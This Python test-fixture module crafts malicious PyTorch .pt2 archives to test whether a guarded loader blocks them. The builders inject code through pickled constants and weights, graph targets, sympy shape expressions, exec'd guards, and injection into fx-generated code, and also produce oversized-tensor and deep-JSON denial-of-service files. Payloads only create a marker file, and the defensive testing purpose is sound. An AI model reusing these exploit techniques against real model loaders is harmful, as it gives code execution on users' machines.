"""Crafted .pt2 archives, each a working exploit against an unguarded ``torch.export.load``.

Every builder takes a clean archive written by ``torch.export.save`` and a marker path; the payload
creates the marker, so a test proves code ran (or did not) by looking for it. ``RUNS_CODE`` names the
variants whose payload runs on load or on the first forward pass with torch's own loader: a test
runs them unguarded in a child process to show the crafted files are real, not just odd.
"""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from pathlib import Path

import torch
from torch import nn


class Tiny(nn.Module):
    """A linear layer plus a tensor constant, so the archive has weights and constants tables."""

    def __init__(self):
        super().__init__()
        self.layer = nn.Linear(4, 3)
        self.offset = torch.tensor([0.5, -0.5, 0.0])

    def forward(self, x):
        return torch.relu(self.layer(x)) + self.offset


class CreatesFile:
    """Unpickling this creates the marker file: proof that a checkpoint's code ran."""

    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def export_tiny(path: Path) -> Path:
    program = torch.export.export(Tiny(), (torch.randn(2, 4),), dynamic_shapes={"x": {0: torch.export.Dim("batch")}})
    torch.export.save(program, str(path))
    return path


def _members(clean: Path) -> tuple[str, dict[str, bytes]]:
    with zipfile.ZipFile(clean) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    root = next(iter(members)).split("/", 1)[0]
    return root, members


def _write(members: dict[str, bytes], target: Path) -> Path:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return target


def _edit_json(members: dict, member: str, edit) -> None:
    value = json.loads(members[member])
    edit(value)
    members[member] = json.dumps(value).encode()


def _pickled(marker: Path, torch_save: bool = False) -> bytes:
    if torch_save:
        buffer = io.BytesIO()
        torch.save(CreatesFile(marker), buffer)
        return buffer.getvalue()
    return pickle.dumps(CreatesFile(marker), protocol=2)


def _pickled_constant(clean: Path, target: Path, marker: Path, prefix: str) -> Path:
    """A constant stored as ``<prefix>0`` with use_pickle set, its record a pickle that creates the marker."""
    root, members = _members(clean)
    config = f"{root}/data/constants/model_constants_config.json"
    _edit_json(members, config, lambda c: c["config"].update({"evil": {"path_name": f"{prefix}0", "is_param": False, "use_pickle": True, "tensor_meta": None}}))
    members[f"{root}/data/constants/{prefix}0"] = _pickled(marker)
    return _write(members, target)


def opaque_constant(clean: Path, target: Path, marker: Path) -> Path:
    """An ``opaque_obj_`` constant: torch reads it with plain pickle.loads."""
    return _pickled_constant(clean, target, marker, "opaque_obj_")


def custom_constant(clean: Path, target: Path, marker: Path) -> Path:
    """A ``custom_obj_`` constant: torch reads it with TorchScript's unpickler."""
    return _pickled_constant(clean, target, marker, "custom_obj_")


def pickled_weight(clean: Path, target: Path, marker: Path) -> Path:
    """A weight whose config says use_pickle: torch reads it with torch.load(weights_only=False)."""
    root, members = _members(clean)
    config = f"{root}/data/weights/model_weights_config.json"

    def edit(c):
        entry = c["config"]["layer.bias"]
        entry["use_pickle"] = True
        members[f"{root}/data/weights/{entry['path_name']}"] = _pickled(marker, torch_save=True)

    _edit_json(members, config, edit)
    return _write(members, target)


def pickled_tensor_constant(clean: Path, target: Path, marker: Path) -> Path:
    """A tensor constant whose config says use_pickle (torch.load with weights_only=False)."""
    root, members = _members(clean)
    config = f"{root}/data/constants/model_constants_config.json"

    def edit(c):
        entry = next(iter(c["config"].values()))
        entry["use_pickle"] = True
        members[f"{root}/data/constants/{entry['path_name']}"] = _pickled(marker, torch_save=True)

    _edit_json(members, config, edit)
    return _write(members, target)


def legacy_weights(clean: Path, target: Path, marker: Path) -> Path:
    """The legacy layout: the whole state dict as one pickled ``data/weights/model.pt``."""
    root, members = _members(clean)
    members[f"{root}/data/weights/model.pt"] = _pickled(marker, torch_save=True)
    return _write(members, target)


def sample_inputs(clean: Path, target: Path, marker: Path) -> Path:
    """Sample inputs that fail the weights-only read, so torch retries with a full unpickle."""
    root, members = _members(clean)
    members[f"{root}/data/sample_inputs/model.pt"] = _pickled(marker, torch_save=True)
    return _write(members, target)


def graph_target(clean: Path, target: Path, marker: Path) -> Path:
    """A graph node calling ``torch.os.mkdir``: torch resolves it by attribute lookup and runs it in forward."""
    root, members = _members(clean)

    def edit(program):
        graph = program["graph_module"]["graph"]
        graph["tensor_values"]["evil"] = dict(graph["tensor_values"]["x"])  # a tensor-typed output passes the verifier
        graph["nodes"].insert(0, {"target": "torch.os.mkdir", "inputs": [{"name": "path", "arg": {"as_string": str(marker)}, "kind": 1}],
                                  "outputs": [{"as_tensor": {"name": "evil"}}], "metadata": {}, "is_hop_single_tensor_return": None, "name": "evil"})

    _edit_json(members, f"{root}/models/model.json", edit)
    return _write(members, target)


def shape_expression(clean: Path, target: Path, marker: Path) -> Path:
    """A shape expression that sympy.sympify evaluates as Python."""
    root, members = _members(clean)
    raw = members[f"{root}/models/model.json"].decode()
    payload = f"__import__('os').mkdir('{marker}')"
    members[f"{root}/models/model.json"] = raw.replace("Symbol('s", json.dumps(payload)[1:-1] + " + Symbol('s", 1).encode()
    return _write(members, target)


def guards_code(clean: Path, target: Path, marker: Path) -> Path:
    """A guard: ExportedProgram.module() compiles the guards with exec into a function every forward pass calls."""
    root, members = _members(clean)
    _edit_json(members, f"{root}/models/model.json", lambda p: p.update({"guards_code": [f"__import__('os').mkdir('{marker}') or True"]}))
    return _write(members, target)


def _first_node_metadata(clean: Path, target: Path, key: str, value: str) -> Path:
    root, members = _members(clean)

    def edit(program):
        program["graph_module"]["graph"]["nodes"][0]["metadata"][key] = value

    _edit_json(members, f"{root}/models/model.json", edit)
    return _write(members, target)


def stack_trace(clean: Path, target: Path, marker: Path) -> Path:
    """Node metadata: torch.fx writes the stack trace's code line as a comment into the Python it compiles; a carriage return ends it."""
    return _first_node_metadata(clean, target, "stack_trace", f'File "model.py", line 1, in forward\n    x\r__import__("os").mkdir("{marker}")\n')


def module_stack(clean: Path, target: Path, marker: Path) -> Path:
    """A node's module stack (kept for torch.export.unflatten) whose module path carries a line of code."""
    return _first_node_metadata(clean, target, "nn_module_stack", f'L__self__,,M;L__self__layer,layer\r__import__("os").mkdir("{marker}"),torch.nn.Linear')


def attribute_name(clean: Path, target: Path, marker: Path) -> Path:
    """A weight name with a quote: torch.fx writes getattr(self, "<name>") into the Python it compiles."""
    root, members = _members(clean)
    evil = f'x", __import__("os").mkdir("{marker}")) or getattr(self, "y'
    for member in (f"{root}/models/model.json", f"{root}/data/weights/model_weights_config.json"):
        members[member] = members[member].replace(b'"layer.bias"', json.dumps(evil).encode()).replace(b'"p_layer_bias"', b'"p_layer_bias"')
    return _write(members, target)


def compiled_library(clean: Path, target: Path, marker: Path) -> Path:
    """An AOTInductor member: a shared library torch's package loader would dlopen."""
    root, members = _members(clean)
    members[f"{root}/data/aotinductor/model/model.so"] = b"\x7fELF" + bytes(64)
    return _write(members, target)


def huge_declared_tensor(clean: Path, target: Path, marker: Path) -> Path:
    """An empty weight record declaring 100,000 x 100,000 floats (40 GB): torch allocates the declared size."""
    root, members = _members(clean)
    config = f"{root}/data/weights/model_weights_config.json"

    def edit(c):
        entry = c["config"]["layer.weight"]
        entry["tensor_meta"]["sizes"] = [{"as_int": 100_000}, {"as_int": 100_000}]
        members[f"{root}/data/weights/{entry['path_name']}"] = b""

    _edit_json(members, config, edit)
    return _write(members, target)


def deep_json(clean: Path, target: Path, marker: Path) -> Path:
    """A graph file nested 100,000 levels deep."""
    root, members = _members(clean)
    members[f"{root}/models/model.json"] = b"[" * 100_000 + b"]" * 100_000
    return _write(members, target)


def nan_weights(clean: Path, target: Path, marker: Path) -> Path:
    """A well-formed archive whose weight holds NaNs (not an exploit: a model the app cannot explain)."""
    root, members = _members(clean)
    config = json.loads(members[f"{root}/data/weights/model_weights_config.json"])
    record = f"{root}/data/weights/{config['config']['layer.bias']['path_name']}"
    members[record] = torch.tensor([float("nan"), 1.0, 2.0]).numpy().tobytes()
    return _write(members, target)


CRAFTED = {
    "opaque_constant": opaque_constant,
    "custom_constant": custom_constant,
    "pickled_weight": pickled_weight,
    "pickled_tensor_constant": pickled_tensor_constant,
    "legacy_weights": legacy_weights,
    "sample_inputs": sample_inputs,
    "graph_target": graph_target,
    "shape_expression": shape_expression,
    "guards_code": guards_code,
    "stack_trace": stack_trace,
    "module_stack": module_stack,
    "attribute_name": attribute_name,
    "compiled_library": compiled_library,
    "huge_declared_tensor": huge_declared_tensor,
    "deep_json": deep_json,
    "nan_weights": nan_weights,
}
# Variants whose payload runs under torch.export.load (+ one forward pass) when nothing guards it.
RUNS_CODE = ("opaque_constant", "pickled_weight", "pickled_tensor_constant", "legacy_weights", "sample_inputs", "shape_expression", "guards_code")
